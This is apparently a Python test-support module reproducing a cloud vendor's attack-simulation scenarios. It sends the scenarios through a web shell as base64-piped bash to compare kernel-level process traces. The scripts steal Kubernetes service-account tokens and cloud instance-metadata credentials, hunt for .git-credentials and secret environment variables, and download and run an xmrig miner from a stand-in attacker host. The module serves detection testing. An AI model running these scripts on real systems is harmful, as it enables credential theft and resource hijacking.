"""Microsoft's scenario scripts, as the tests send them to the victim.

Our own text of the original's behaviour, written from the command lines that ../../shared/reference/original-tool.md records (its appendix), in the
original's order and with its branches: the same programs with the same arguments, the same pipes, the same
variable expansions (unquoted where the original leaves them unquoted: `echo $group`, `find / -path */...`). The
comparison test (test_clouds.py) sends each one as the original attacker does, one web-shell request with
`cmd=echo <base64>| base64 -d| bash` (the web shell scenario: `cmd=whoami`), and compares what the kernel saw with what the collection's techniques
made it see, process by process. What they print is never shown by the tests: it holds secrets barely cut.
"""
import base64

IMDS = "http://169.254.169.254"
TOKEN_FILE = "/var/run/secrets/kubernetes.io/serviceaccount/token"

REVIEW = ('{"kind":"SelfSubjectAccessReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},'
          '"spec":{"resourceAttributes":{"namespace":"default","verb":"get","resource":"pods"}},"status":{}}')

RECON = r"""
sa_token=`cat %(token)s`
body='%(review)s'
review=`curl -s -k -A "kubectl" -H "Authorization: Bearer $sa_token" \
  -H "Content-Type: application/json" -X POST -d $body \
  "https://kubernetes.default/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"| grep -Po '"status":\{\K.*?(?=\})'`
echo "review: $review"
nmap  -Pn --open kubernetes.default/24 -p 443
""" % {"token": TOKEN_FILE, "review": REVIEW}

LATERAL_MOVEMENT = r"""
gcp_url="%(imds)s/computeMetadata/v1/instance/service-accounts/default/token"
if token=$(curl -s -H "Metadata-Flavor: Google" "$gcp_url"| grep -Po '"access_token":"\K.*?(?=")'); then
    cloud="GCP"
elif session=$(curl -sf -X PUT "%(imds)s/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"); then
    cloud="AWS"
    role_list=$(curl -s "%(imds)s/latest/meta-data/iam/security-credentials" -H "X-aws-ec2-metadata-token: $session")
    for role in $role_list; do
        token=$(curl -s "%(imds)s/latest/meta-data/iam/security-credentials/$role" -H "X-aws-ec2-metadata-token: $session" | grep -Po '"Token" : "\K.*?(?=")')
    done
else
    cloud="Azure"
    sub=$(curl -s -H Metadata:true --noproxy "*" "%(imds)s/metadata/instance/compute/subscriptionId?api-version=2017-08-01&format=text")
    group=$(curl -s -H Metadata:true --noproxy "*" "%(imds)s/metadata/instance/compute/resourceGroupName?api-version=2017-08-01&format=text")
    location=$(curl -s -H Metadata:true --noproxy "*" "%(imds)s/metadata/instance/compute/location?api-version=2017-08-01&format=text")
    cluster=$(echo $group | grep -Po "[^_]+(?=_$location)")
    identity="/subscriptions/$sub/resourcegroups/$group/providers/Microsoft.ManagedIdentity/userAssignedIdentities/$cluster-agentpool"
    url="%(imds)s/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com"
    answer=$(curl -sf -H Metadata:true "$url" ||curl -sf -H Metadata:true "$url&msi_res_id=$identity")
    token=$(echo $answer | grep -Po '"access_token":"\K.*?(?=")')
fi
test $token && echo "$cloud token: $token" | head -c 30 && echo "..." || echo "No token found"
""" % {"imds": IMDS}

SECRETS = r"""
found=$(find / -path */.git-credentials 2>/dev/null)
if (test -n $found); then
    creds=$(cat $found)
    echo "found .git-credentials at $found"
fi
token_file="%(token)s"
if (test -f $token_file); then
    prefix=$(cat $token_file | head -c 30 && echo "...")
fi
if (`curl -sf -H "Metadata-Flavor: Google" "%(imds)s/computeMetadata/v1/" -o /dev/null`); then
    set | grep GOOGLE_DEFAULT_CLIENT_SECRET= || echo "variables not found"
elif (`curl -sf -X PUT "%(imds)s/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600" -o /dev/null`); then
    set | grep AWS_SECRET_ACCESS_KEY= || echo "variables not found"
else
    set | grep AZURE_CREDENTIAL_FILE= || echo "variables not found"
fi
""" % {"imds": IMDS, "token": TOKEN_FILE}

CRYPTO = r"""
/sbin/modprobe msr allow_writes=on > /dev/null 2>&1
touch /etc/ld.so.preload
curl -sO http://mdc-simulation-attacker/xmrig
chmod +x xmrig
./xmrig
"""

TI_DOMAIN = r"""
curl -s -m 10 -X POST "http://mdc-eicar.alerts.security.azure.com?SendingData" -o /dev/null
"""

# Every scenario, as the original names them in our spelling; webshell has no script: its command is whoami.
SCRIPTS = {"recon": RECON, "lateral_movement": LATERAL_MOVEMENT, "secrets": SECRETS, "crypto": CRYPTO,
           "ti_domain": TI_DOMAIN, "webshell": None}


def web_shell_command(scenario):
    """The command the original attacker hands to the web shell for a scenario."""
    script = SCRIPTS[scenario]
    if script is None:
        return "whoami"
    return "echo %s| base64 -d| bash" % base64.b64encode(script.encode()).decode()
